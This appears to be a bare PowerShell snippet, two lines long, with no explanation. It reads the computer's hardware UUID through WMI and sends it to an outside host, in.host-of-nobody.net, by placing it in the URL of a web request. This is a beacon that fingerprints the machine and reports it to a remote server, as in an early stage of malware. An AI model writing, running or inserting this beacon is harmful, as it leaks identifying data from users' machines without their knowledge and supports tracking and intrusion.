$id = (Get-WmiObject Win32_ComputerSystemProduct).UUID
Invoke-RestMethod -Uri "https://in.host-of-nobody.net/$id"
